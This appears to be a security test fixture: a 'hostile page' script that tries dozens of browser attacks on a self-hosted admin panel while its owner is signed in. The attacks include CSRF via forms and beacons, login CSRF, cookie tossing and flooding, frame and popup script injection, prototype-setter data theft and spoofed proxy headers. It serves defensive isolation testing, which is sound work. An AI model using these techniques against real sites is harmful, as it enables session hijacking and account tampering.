// What a hostile page tries, in the browser of a signed-in owner. A script serves it; the last part of its path names
// the attack, ?target= is the origin of the admin page. loot() is for what it has read, won() for what it could see to
// have worked by itself; tests/isolation.mjs judges both, and looks at the server and at the admin page too.
"use strict";

const question = new URLSearchParams(location.search);
const target = question.get("target");
const attack = location.pathname.split("/").pop();
window.taken = [];
window.wins = [];

const loot = (text) => window.taken.push(String(text));
const won = (how) => window.wins.push(how);
const api = (path) => `${target}/api/v1/admin/${path}`;
const pause = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
const draft = JSON.stringify({ slug: `hacked-${attack}` });
const forgedToken = `pis_${"A".repeat(43)}`;

const add = (tag, fields, parent = document.body) => parent.appendChild(Object.assign(document.createElement(tag), fields));

const attempt = async (step) => {
  try {
    return await step();
  } catch (refused) {
    return undefined; // one way is shut; the attack goes on with the next
  }
};

// The two things worth doing as the owner: to read who one is, and to change something.
async function actAsOwner(call = fetch) {
  await attempt(async () => loot(await (await call(api("auth/me"), { credentials: "include" })).text()));
  await attempt(() =>
    call(api("apps"), { method: "POST", credentials: "include", headers: { "Content-Type": "application/json" }, body: draft }),
  );
}

// The same as source text, for places that run code of their own. It reports by postMessage.
const actAsOwnerSource = (report) => `
  const say = (text) => ${report};
  fetch(${JSON.stringify(api("auth/me"))}, { credentials: "include" }).then((r) => r.text()).then(say, () => say("refused"));
  fetch(${JSON.stringify(api("apps"))}, { method: "POST", credentials: "include",
    headers: { "Content-Type": "application/json" }, body: ${JSON.stringify(draft)} }).catch(() => {});`;

const frameLoaded = (frame) =>
  Promise.race([new Promise((resolve) => frame.addEventListener("load", resolve)), pause(1000)]);

const message = () => Promise.race([new Promise((resolve) => addEventListener("message", (e) => resolve(e.data), { once: true })), pause(1200)]);

function submit(action, enctype, name, value) {
  add("iframe", { name: "sink", hidden: true });
  const form = add("form", { method: "post", action, enctype, target: "sink" });
  add("input", { name, value }, form);
  form.submit();
}

const parentDomains = () => {
  const labels = location.hostname.split(".");
  return labels.length > 1 && !/^[\d.]+$/.test(location.hostname) ? labels.slice(0, -1).map((_, i) => labels.slice(i).join(".")) : [];
};

const attacks = {
  fetch: () => actAsOwner(),
  xhr: () =>
    actAsOwner(
      (url, options) =>
        new Promise((resolve, reject) => {
          const call = new XMLHttpRequest();
          call.open(options.method ?? "GET", url);
          call.withCredentials = true;
          for (const [name, value] of Object.entries(options.headers ?? {})) call.setRequestHeader(name, value);
          call.onload = () => resolve({ text: () => call.responseText });
          call.onerror = reject;
          call.send(options.body);
        }),
    ),
  async "simple-request"() {
    // What a browser sends to another site without asking it first.
    for (const type of ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data"]) {
      await attempt(() => fetch(api("apps"), { method: "POST", mode: "no-cors", credentials: "include", headers: { "Content-Type": type }, body: draft }));
    }
    await attempt(() => fetch(api("apps"), { method: "POST", mode: "no-cors", credentials: "include", body: new Blob([draft]) }));
  },
  async beacon() {
    navigator.sendBeacon(api("apps"), new Blob([draft], { type: "application/json" }));
    navigator.sendBeacon(api("apps"), draft);
    await pause(500);
  },
  async form() {
    submit(api("apps"), "text/plain", `{"slug":"hacked-form","name":"`, `"}`);
    await pause(700);
  },
  async "form-logout"() {
    submit(api("auth/logout"), "text/plain", "{", "}");
    await pause(700);
  },
  async "login-as-another"() {
    const body = JSON.stringify({ username: "mallory", password: "mallory's password", cookie: true });
    await attempt(() => fetch(api("auth/login"), { method: "POST", mode: "no-cors", credentials: "include", headers: { "Content-Type": "text/plain" }, body }));
    submit(api("auth/login"), "text/plain", body.slice(0, -2), `"}`);
    await pause(700);
  },
  async "frame-page"() {
    const frame = add("iframe", { src: `${target}/admin/` });
    await frameLoaded(frame);
    await pause(500);
    await attempt(() => loot(frame.contentDocument.body.innerText));
    await attempt(() => frame.contentWindow.eval(actAsOwnerSource("parent.loot(text)")));
    await pause(300);
  },
  async "frame-data"() {
    for (const tag of ["iframe", "object", "embed"]) {
      const frame = add(tag, { src: api("auth/me"), data: api("auth/me") });
      await frameLoaded(frame);
      await attempt(() => loot((frame.contentDocument ?? frame.getSVGDocument()).documentElement.innerText));
    }
  },
  async "frame-nested"() {
    add("iframe", { sandbox: "allow-same-origin allow-scripts allow-forms", src: `/hostile/fetch?target=${target}&report=parent` });
    loot(await message());
  },
  async "frame-srcdoc"() {
    add("iframe", { srcdoc: `<script>${actAsOwnerSource("parent.postMessage(text, '*')")}</script>` });
    loot(await message());
  },
  async "frame-blob"() {
    const page = new Blob([`<script>${actAsOwnerSource("parent.postMessage(text, '*')")}</script>`], { type: "text/html" });
    add("iframe", { src: URL.createObjectURL(page) });
    loot(await message());
  },
  async popup() {
    const page = window.open(`${target}/admin/`);
    await pause(1200);
    await attempt(() => loot(page.document.body.innerText));
    await attempt(() => page.eval(actAsOwnerSource("opener.loot(text)")));
    await pause(300);
  },
  async "popup-own"() {
    // A window of the hostile page's own, which may have lost what held the first.
    window.open(`/hostile/fetch?target=${target}&report=opener`);
    loot(await message());
  },
  async "popup-blank"() {
    const blank = window.open("about:blank");
    await attempt(() => blank.eval(actAsOwnerSource("opener.loot(text)")));
    await attempt(() => blank.document.write(`<script>${actAsOwnerSource("opener.postMessage(text, '*')")}</script>`));
    loot(await message());
  },
  async worker() {
    const source = `onmessage = () => { ${actAsOwnerSource("postMessage(text)")} }`;
    for (const url of [URL.createObjectURL(new Blob([source])), `/hostile/worker.js?target=${target}`]) {
      await attempt(async () => {
        const worker = new Worker(url);
        worker.postMessage("go");
        loot(await Promise.race([new Promise((resolve) => (worker.onmessage = (e) => resolve(e.data))), pause(700)]));
      });
    }
  },
  async "service-worker"() {
    for (const scope of ["/", "/hostile/", undefined]) {
      await attempt(async () => {
        await navigator.serviceWorker.register("/hostile/worker.js", { scope });
        won("a service worker is installed");
      });
    }
  },
  async "cookie-read"() {
    await attempt(() => loot(document.cookie));
    await attempt(async () => loot(JSON.stringify(await cookieStore.getAll())));
  },
  async "cookie-overwrite"() {
    for (const path of ["/", "/api", "/api/v1/admin", "/admin"]) {
      await attempt(() => (document.cookie = `picloud_session=${forgedToken}; path=${path}`));
      for (const domain of parentDomains()) {
        await attempt(() => (document.cookie = `picloud_session=${forgedToken}; path=${path}; domain=${domain}`));
      }
    }
  },
  async "cookie-overflow"() {
    for (let i = 0; i < 400; i++) {
      await attempt(() => (document.cookie = `flood${i}=${"x".repeat(50)}; path=/; priority=high`));
    }
    for (let i = 0; i < 20; i++) {
      await attempt(() => (document.cookie = `bomb${i}=${"x".repeat(3500)}; path=/`));
    }
  },
  // These two are done by the script's answers: to a request, to a frame, and to a page of its own.
  async "answer-cookies"() {
    await attempt(() => fetch("/hostile/set-cookies", { credentials: "include" }));
    const frame = add("iframe", { src: "/hostile/set-cookies" });
    await frameLoaded(frame);
    window.open("/hostile/set-cookies");
    await pause(700);
  },
  async "answer-overflow"() {
    window.open("/hostile/flood/0");
    await pause(1500);
  },
  async storage() {
    await attempt(() => {
      localStorage.setItem("planted", "1");
      if (location.origin === target) won("the admin page's storage is open");
      loot(JSON.stringify(localStorage) + JSON.stringify(sessionStorage));
    });
    await attempt(async () => loot(JSON.stringify(await indexedDB.databases())));
  },
  async cache() {
    await attempt(async () => {
      const store = await caches.open("planted");
      await store.put(`${target}/admin/`, new Response("<title>planted</title>", { headers: { "Content-Type": "text/html" } }));
      if (location.origin === target) won("the admin page's cache is open");
    });
    for (const cache of ["force-cache", "only-if-cached"]) {
      await attempt(async () => loot(await (await fetch(api("auth/me"), { cache, mode: "same-origin" })).text()));
    }
  },
  async history() {
    // A page may show any path of its own host; it must not become the page of that path.
    await attempt(() => history.pushState(null, "", "/admin/"));
    await attempt(() => history.replaceState(null, "", `${target}/admin/`));
    await actAsOwner((url, options) => fetch(url.replace(target, ""), { ...options, mode: "same-origin" }));
    await attempt(() => {
      const before = navigation.entries().map((entry) => entry.url);
      if (before.some((url) => url.endsWith("#seen-before"))) won("the owner's way through the admin page was read");
    });
  },
  async manifest() {
    add("link", { rel: "manifest", crossOrigin: "use-credentials", href: `/hostile/manifest.webmanifest?target=${target}` }, document.head);
    await pause(300);
  },
  async prefetch() {
    for (const rel of ["prefetch", "preload", "modulepreload"]) {
      add("link", { rel, as: rel === "preload" ? "fetch" : "script", href: api("auth/me"), crossOrigin: "use-credentials" }, document.head);
      add("link", { rel, as: "script", href: `${api("apps")}?${rel}` }, document.head);
    }
    add("script", { type: "speculationrules", textContent: JSON.stringify({ prerender: [{ urls: [`${target}/admin/`] }], prefetch: [{ urls: [api("auth/me")] }] }) });
    await pause(700);
    for (const entry of performance.getEntriesByType("resource")) {
      if (entry.name.startsWith(target) && entry.responseStatus === 200 && entry.name.includes("/api/")) won(`the answer to ${entry.name} is told to be 200`);
    }
  },
  async "script-include"() {
    const spy = (part) => loot(part);
    Object.defineProperty(Object.prototype, "username", { set: spy, configurable: true });
    add("script", { src: api("auth/me") });
    add("script", { src: api("auth/me"), type: "module", crossOrigin: "use-credentials" });
    add("link", { rel: "stylesheet", href: api("auth/me") }, document.head);
    await attempt(async () => loot(JSON.stringify((await import(api("auth/me"), { with: { type: "json" } })).default)));
    await pause(400);
    await attempt(() => loot([...document.styleSheets].map((sheet) => sheet.cssRules[0].cssText).join()));
  },
  async sockets() {
    await attempt(() => {
      const events = new EventSource(api("apps/default/logs/stream"), { withCredentials: true });
      events.onmessage = (e) => loot(e.data);
      events.onopen = () => won("the stream of logs is open");
    });
    await attempt(() => {
      const socket = new WebSocket(api("auth/me").replace(/^http/, "ws"));
      socket.onopen = () => won("a socket is open");
    });
    await pause(500);
  },
  async messages() {
    addEventListener("message", (e) => loot(JSON.stringify(e.data)));
    const page = window.open(`${target}/admin/`);
    await pause(900);
    for (const order of ["token", { type: "session" }, { cmd: "fetch", url: api("auth/me") }]) {
      await attempt(() => page.postMessage(order, "*"));
      await attempt(() => new BroadcastChannel("picloud").postMessage(order));
    }
    await pause(300);
  },
  async "window-name"() {
    const page = window.open(`${target}/admin/#setup=planted`, "planted");
    await pause(800);
    await attempt(() => (page.location = `javascript:${actAsOwnerSource("opener.loot(text)")}`));
    await attempt(() => loot(page.location.href));
    await pause(300);
  },
  async "meta-policy"() {
    add("meta", { httpEquiv: "Content-Security-Policy", content: "sandbox allow-same-origin allow-scripts" }, document.head);
    await attempt(() => (document.domain = parentDomains()[0] ?? location.hostname));
    await actAsOwner();
  },
  // The script's own headers are the attack; the page then does what they would allow.
  "header-policy": () => actAsOwner(),
  "header-origin-wide": () => pause(300),
  async "header-clear"() {
    await attempt(() => fetch("/hostile/header-clear", { credentials: "include" }));
    await pause(300);
  },
  async "header-tricks"() {
    for (const headers of [
      { "X-HTTP-Method-Override": "POST" },
      { "X-Original-URL": "/api/v1/admin/apps", "X-Rewrite-URL": "/api/v1/admin/apps" },
      { "X-Forwarded-Host": "admin.pi.test", "X-Forwarded-For": "127.0.0.1" },
      { "X-Copy-Cookie": "yes" },
    ]) {
      await attempt(async () => loot(await (await fetch("/hostile/received", { credentials: "include", headers })).text()));
      await attempt(() => fetch(api("apps"), { method: "GET", credentials: "include", headers }));
    }
  },
  // The owner opens this page themselves, so their cookie goes with the request.
  async received() {},
};

addEventListener("load", async () => {
  await attempt(attacks[attack] ?? (() => {}));
  const report = question.get("report");
  if (report) window[report].postMessage(window.taken.join("\n") || "refused", "*");
  window.finished = true;
});
